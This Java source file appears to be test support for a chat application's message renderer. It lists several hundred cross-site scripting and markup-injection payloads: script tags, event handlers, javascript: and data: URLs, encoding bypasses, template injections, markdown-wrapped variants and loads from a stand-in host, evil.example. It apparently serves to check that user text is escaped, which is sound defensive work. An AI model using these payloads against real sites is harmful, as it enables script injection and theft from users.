package chat.hubbub.attack;

import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** Texts that would run a script, load something or change the page, if anybody took them for markup. */
public final class Payloads {

    /** What they call if they get that far. */
    public static final String CALL = "hacked()";

    private static final List<String> MARKUP = List.of(
            "<script>hacked()</script>",
            "<script src=//evil.example/x.js></script>",
            "<script/x>hacked()</script>",
            "<scr<script>ipt>hacked()</scr</script>ipt>",
            "<script>/*",
            "</script><script>hacked()//",
            "<svg onload=hacked()>",
            "<svg/onload=hacked()>",
            "<svg><script>hacked()</script></svg>",
            "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hacked()</script></svg>#x\">",
            "<svg><a xlink:href=javascript:hacked()><text y=20>x</text></a></svg>",
            "<svg><foreignObject><iframe srcdoc=\"<script>parent.hacked()</script>\"></iframe></foreignObject></svg>",
            "<img src=x onerror=hacked()>",
            "<img src=x:x onerror=hacked()>",
            "<img/src=x/onerror=hacked()>",
            "<img src=`x` onerror=hacked()>",
            "<img src=javascript:hacked()>",
            "<img srcset=//evil.example/x.png>",
            "<image src=x onerror=hacked()>",
            "<video><source onerror=hacked()></video>",
            "<video poster=javascript:hacked()>",
            "<audio src=x onerror=hacked()>",
            "<body onload=hacked()>",
            "<body background=//evil.example/x.png>",
            "<html onmouseover=hacked()>",
            "<iframe src=javascript:hacked()>",
            "<iframe srcdoc='<script>parent.hacked()</script>'>",
            "<iframe src=\"data:text/html,<script>hacked()</script>\">",
            "<embed src=javascript:hacked()>",
            "<object data=javascript:hacked()>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==\">",
            "<form action=javascript:hacked()><button autofocus onfocus=hacked()>x</button></form>",
            "<form id=log><input name=scrollTop></form>",
            "<input autofocus onfocus=hacked()>",
            "<input type=image src=x onerror=hacked()>",
            "<button formaction=javascript:hacked()>x</button>",
            "<select autofocus onfocus=hacked()><option>x</option></select>",
            "<textarea autofocus onfocus=hacked()>",
            "<keygen autofocus onfocus=hacked()>",
            "<details open ontoggle=hacked()>x</details>",
            "<dialog open onclose=hacked()>x</dialog>",
            "<div popover id=menu onbeforetoggle=hacked()>x</div>",
            "<marquee onstart=hacked()>x</marquee>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hacked()&gt;\">",
            "<math><maction actiontype=statusline xlink:href=javascript:hacked()>x</maction></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=hacked()>\">",
            "<template><script>hacked()</script></template>",
            "<template shadowrootmode=open><script>hacked()</script></template>",
            "<style>*{background:url(//evil.example/x)}</style>",
            "<style>@import '//evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=import href=//evil.example/x.html>",
            "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
            "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
            "<base href=//evil.example/>",
            "<p style=\"background:url(//evil.example/x)\">x</p>",
            "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
            "<a href=javascript:hacked() autofocus onfocus=hacked()>x</a>",
            "<a id=menu><a id=menu name=act href=x>",
            "<xss id=x tabindex=1 onfocus=hacked() autofocus>",
            "<x contenteditable onblur=hacked()>x",
            "<!--><img src=x onerror=hacked()>-->",
            "<![CDATA[><img src=x onerror=hacked()>]]>",
            "<?xml-stylesheet href=javascript:hacked()?>",
            "\"><img src=x onerror=hacked()>",
            "'><img src=x onerror=hacked()>",
            "` onmouseover=hacked() `",
            "\" autofocus onfocus=hacked() x=\"",
            "{{constructor.constructor('hacked()')()}}",
            "${hacked()}",
            "[[${T(java.lang.Runtime).getRuntime()}]]",
            "&lt;img src=x onerror=hacked()&gt;",
            "&#60;img src=x onerror=hacked()&#62;",
            "\\u003cimg src=x onerror=hacked()\\u003e",
            "＜img src=x onerror=hacked()＞",
            "<\u0000img src=x onerror=hacked()>",
            "<img\u000bsrc=x\u000conerror=hacked()>",
            "+ADw-script+AD4-hacked()+ADw-/script+AD4-");

    private static final List<String> ADDRESSES = List.of(
            "javascript:hacked()",
            "JaVaScRiPt:hacked()",
            "javascript&colon;hacked()",
            "java\tscript:hacked()",
            "java&#10;script:hacked()",
            "&#106;avascript:hacked()",
            "\u0001javascript:hacked()",
            " javascript:hacked()",
            "javascript://x%0ahacked()",
            "vbscript:hacked()",
            "data:text/html,<script>hacked()</script>",
            "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg onload=hacked()>",
            "blob:https://evil.example/x",
            "file:///etc/passwd",
            "filesystem:https://evil.example/x",
            "about:blank",
            "intent://x#Intent;scheme=javascript;end",
            "https://evil.example/\" onmouseover=\"hacked()",
            "//evil.example/x");

    private Payloads() {}

    /** More than three hundred, none twice. */
    public static List<String> all() {
        Stream<UnaryOperator<String>> around = Stream.of(
                text -> text,
                text -> "> - " + text,
                text -> "**" + text + "** ~~" + text + "~~",
                text -> text.toUpperCase(Locale.ROOT).replace("HACKED()", CALL));
        Stream<String> markup = around.flatMap(wrap -> MARKUP.stream().map(wrap));
        return Stream.of(markup, addresses(), code())
                .flatMap(each -> each)
                .distinct()
                .toList();
    }

    private static Stream<String> addresses() {
        return ADDRESSES.stream()
                .flatMap(address -> Stream.of(
                        "[x](" + address + ")",
                        "[x](<" + address + ">)",
                        "![x](" + address + ")",
                        "<" + address + ">",
                        "[x]: " + address + "\n\n[x]",
                        address));
    }

    private static Stream<String> code() {
        return MARKUP.stream()
                .limit(20)
                .flatMap(text -> Stream.of("`" + text + "`", "```js\n" + text + "\n```", "```" + text + "\nx\n```"));
    }
}
